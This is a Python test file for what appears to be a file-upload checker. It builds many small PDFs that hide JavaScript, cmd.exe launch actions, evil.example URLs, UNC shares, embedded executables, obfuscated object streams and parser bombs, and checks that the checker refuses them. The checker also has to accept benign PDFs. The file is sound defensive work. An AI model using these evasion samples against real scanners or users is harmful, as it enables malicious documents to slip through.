"""PDF that act when they are opened, or carry other files: none is taken, however it is hidden."""

import zlib
from io import BytesIO

import pytest
import typst

from cardumen.files import contents
from cardumen.files.contents import examine
from cardumen.kernel.errors import Invalid

ACTS, UNCERTAIN = "programs, commands or other files", "we cannot check it"
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def pdf(*objects: bytes, trailer: bytes = b"<</Root 1 0 R>>") -> bytes:
    body = b"".join(b"%d 0 obj\n%b\nendobj\n" % (n, it) for n, it in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer\n" + trailer + b"\nstartxref\n9\n%%EOF\n"


def catalog(more: bytes) -> bytes:
    return pdf(b"<</Type/Catalog/Pages 2 0 R" + more + b">>", b"<</Type/Pages/Kids[]/Count 0>>")


def stream(words: bytes, content: bytes) -> bytes:
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (words, len(content), content)


def packed(*objects: bytes, words: bytes = b"/Filter/FlateDecode", deflate=zlib.compress) -> bytes:
    """In a stream of objects, from number 10."""
    places = [sum(len(one) + 1 for one in objects[:n]) for n in range(len(objects))]
    head = b" ".join(b"%d %d" % (10 + n, place) for n, place in enumerate(places)) + b" "
    inside = head + b" ".join(objects)
    words += b"/Type/ObjStm/N %d/First %d" % (len(objects), len(head))
    return stream(words, deflate(inside))


def plain(content: bytes) -> bytes:
    return content


HIDDEN = b"<</Type/Catalog/OpenAction " + SCRIPT + b">>"
ATTACKS = {
    "script at the start": catalog(b"/OpenAction " + SCRIPT),
    "script at the start, elsewhere": pdf(b"<</Type/Catalog/OpenAction 2 0 R>>", SCRIPT),
    "script among names": catalog(b"/Names<</JavaScript<</Names[(a) 3 0 R]>>>>"),
    "script of a page": catalog(b"/AA<</O 5 0 R>>"),
    "script of a page, a comment between": catalog(b"/AA %x\n5 %y\n0 R"),
    "script written otherwise": catalog(b"/OpenAction<</#53/J#61vaScr#69pt/#4aS(1)>>"),
    "name of the script elsewhere": pdf(b"<</S 2 0 R/JS 3 0 R>>", b"/JavaScript", b"(x)"),
    "command": catalog(b"/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>"),
    "address opened at the start": catalog(b"/OpenAction<</S/URI/URI(https://evil.example)>>"),
    "address opened after a page": catalog(
        b"/OpenAction<</S/GoTo/D[2 0 R/Fit]/Next<</S/URI/URI(https://evil.example)>>>>"
    ),
    "share opened at the start": catalog(b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share)>>"),
    "start that no one finds": catalog(b"/OpenAction 77 0 R"),
    "start said twice": pdf(b"<</OpenAction 2 0 R>>", b"[3 0 R/Fit]", b"<<>>")
    + b"2 0 obj<</S/URI/URI(https://evil.example)>>endobj",
    "form that sends itself": catalog(b"/A<</S/SubmitForm/F(https://evil.example)>>"),
    "attachment": pdf(stream(b"/Type/EmbeddedFile", b"MZ")),
    "attachment without its type": catalog(b"/F<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>"),
    "form of the other kind": catalog(b"/AcroForm<</XFA 5 0 R>>"),
    "film": catalog(b"/A<</S/Rendition/OP 0>>"),
    "body that acts": pdf(b"<</Type/Annot/Subtype/3D>>", stream(b"/OnInstantiate 3 0 R", b"")),
    "packed": pdf(packed(b"<<>>", HIDDEN)),
    "packed twice": pdf(packed(b"[1]"), packed(HIDDEN)),
    "laid in plain": pdf(packed(HIDDEN, words=b"", deflate=plain)),
    "packed without its type": pdf(packed(HIDDEN).replace(b"/Type/ObjStm", b"")),
    "packed, its words written otherwise": pdf(
        packed(HIDDEN)
        .replace(b"/First", b"/#46irst")
        .replace(b"/Filter", b"/Fi#6cter")
        .replace(b"/Type/ObjStm", b"/Type/Obj#53tm")
    ),
    "packed behind words that seem to end": pdf(packed(HIDDEN, words=b"/X(endobj)/Filter/Fl")),
    "packed behind a text that seems open": pdf(packed(b"(", HIDDEN)),
    "behind a text that never ends": b"%PDF-1.7\n(\n" + catalog(b"/OpenAction " + SCRIPT),
    "in a comment's clothes": pdf(b"<</X(%)/OpenAction " + SCRIPT + b">>"),
    "in what seems a picture": pdf(stream(b"/Subtype/Image", b"9 0 obj" + HIDDEN)),
    "after the end": pdf(b"<<>>") + b"1 0 obj" + HIDDEN + b"endobj",
    "with a number told late": pdf(b"<<>>") + b"1 %x\n0 %y\nobj%z\n" + HIDDEN,
    "in the trailer": pdf(b"<<>>", trailer=b"<</Root<</OpenAction " + SCRIPT + b">>>>"),
}
RIDDLES = {
    "packed in another way": pdf(packed(HIDDEN, words=b"/Filter/LZWDecode")),
    "packed in two ways": pdf(packed(HIDDEN, words=b"/Filter[/ASCIIHexDecode/FlateDecode]")),
    "the way told elsewhere": pdf(packed(HIDDEN, words=b"/Filter 9 0 R")),
    "two ways told": pdf(packed(HIDDEN, words=b"/Filter/FlateDecode/Filter/LZWDecode")),
    "with a predictor": pdf(
        packed(HIDDEN, words=b"/Filter/FlateDecode/DecodeParms<</Predictor 12>>")
    ),
    "parameters elsewhere": pdf(packed(HIDDEN, words=b"/Filter/FlateDecode/DecodeParms 9 0 R")),
    "under a password": pdf(packed(b"<<>>"), trailer=b"<</Root 1 0 R/Encrypt 5 0 R>>"),
    "damaged": pdf(packed(HIDDEN, deflate=lambda content: b"damaged" + content)),
    "count told elsewhere": pdf(packed(HIDDEN).replace(b"/N 1", b"/N 9 0 R")),
    "count told twice": pdf(packed(HIDDEN).replace(b"/N 1", b"/N 0/N 1")),
    "more than there is": pdf(packed(HIDDEN).replace(b"/N 1", b"/N 9")),
    "no numbers": pdf(stream(b"/N 1/First 4", b"a b <<>>")),
}
# Small to send, dear to read.
BOMBS = {
    "texts in one another": b"%PDF-1.7\n" + b"1 0 obj(" * 20_000,
    "comments": b"%PDF-1.7\n" + b"1 0 obj%" * 20_000,
    "without end": b"%PDF-1.7\n1 0 obj" + b"[" * 30_000,
    "begun again and again": b"%PDF-1.7\n" + b"1 0 obj<<" * 20_000,
    "large inside": pdf(packed(b"(" + b" " * 2_000_000 + b")")),
    "the same object many times": pdf(
        stream(b"/N 9000/First 36000", b"1 0 " * 9_000 + b"[" + b"(a)" * 9_000 + b"]")
    ),
}


def refusal(content: bytes) -> str:
    with pytest.raises(Invalid) as refused:
        examine(BytesIO(content), len(content))
    return str(refused.value.message)


@pytest.mark.parametrize("name", ATTACKS)
def test_a_pdf_that_acts_is_refused_with_what_to_do(name: str):
    said = refusal(ATTACKS[name])
    assert ACTS in said
    assert "print it as PDF" in said


@pytest.mark.parametrize("name", RIDDLES)
def test_a_pdf_that_hides_its_objects_is_refused(name: str):
    assert UNCERTAIN in refusal(RIDDLES[name])


@pytest.mark.parametrize("name", BOMBS)
def test_a_pdf_that_is_dear_to_read_is_refused(monkeypatch, name: str):
    monkeypatch.setattr(contents.pdf, "MOST_TOKENS", 20_000)
    monkeypatch.setattr(contents.pdf, "MOST_UNPACKED", 1_000_000)
    assert UNCERTAIN in refusal(BOMBS[name])


HONEST = {
    "opened at a page": catalog(b"/OpenAction[2 0 R/XYZ null null 0]"),
    "opened at a page, elsewhere": pdf(b"<</OpenAction 2 0 R>>", b"<</S/GoTo/D[3 0 R/Fit]>>"),
    "opened at a page, packed": pdf(b"<</OpenAction 11 0 R>>", packed(b"<<>>", b"[3 0 R/Fit]")),
    "opened at a place with a name": catalog(b"/OpenAction(capitulo-1)"),
    "links": catalog(b"/A<</S/URI/URI(https://x.cl/Launch)>>/B<</S/GoToR/F(anexo.pdf)>>"),
    "form to fill in": catalog(b"/AcroForm<</Fields[5 0 R]/DA(/Helv 0 Tf)>>"),
    "words": catalog(b"/Title(About /JavaScript and \\(/Launch\\))"),
    "letters": catalog(b"/Differences[1/A/AA/EF/JS 32/space/AA]"),
    "under a password, all in sight": pdf(b"<<>>", trailer=b"<</Root 1 0 R/Encrypt 5 0 R>>"),
    "pages that speak of it": pdf(stream(b"", b"(obj /JavaScript /Launch) Tj")),
    "objects in plain": pdf(packed(b"<<>>", words=b"", deflate=plain)),
}


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_pdf_is_taken(name: str):
    assert examine(BytesIO(HONEST[name]), len(HONEST[name])).extension == ".pdf"


def test_what_we_print_ourselves_is_taken():
    text = '= Hola\n#link("https://x.cl/Launch/JavaScript")[x] #lorem(900)'
    printed = typst.compile(text.encode())
    assert examine(BytesIO(printed), len(printed)).extension == ".pdf"
